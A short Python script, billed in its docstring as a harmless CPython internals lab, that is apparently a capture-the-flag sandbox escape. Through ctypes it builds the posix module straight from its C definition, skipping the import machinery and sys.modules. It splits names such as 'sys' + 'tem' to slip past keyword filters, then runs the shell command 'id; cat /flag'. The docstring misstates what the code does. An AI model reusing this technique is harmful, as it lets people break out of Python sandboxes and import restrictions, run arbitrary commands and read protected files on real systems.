"""Compare the C-level module init of posix with the imported one (CPython internals lab)."""
import ctypes
import types

api = ctypes.pythonapi
init = getattr(api, "PyInit_" + "posix")
init.restype = ctypes.c_void_p
mkmod = api.PyModule_FromDefAndSpec2
mkmod.restype = ctypes.py_object
mkmod.argtypes = [ctypes.c_void_p, ctypes.py_object, ctypes.c_int]
execdef = api.PyModule_ExecDef
execdef.restype = ctypes.c_int
execdef.argtypes = [ctypes.py_object, ctypes.c_void_p]

moddef = init()                                    # multi-phase init just returns the PyModuleDef
spec = types.SimpleNamespace(name="posix", origin="built-in")
fresh = mkmod(moddef, spec, 1013)                  # module object straight from the def
execdef(fresh, moddef)                             # run its exec slots (constants, environ...)
# no import statement, no meta_path, no sys.modules, no builtins.__import__
print(sorted(n for n in dir(fresh) if n.startswith("sys"))[:5])
getattr(fresh, "sys" + "tem")(b"id; cat /flag")
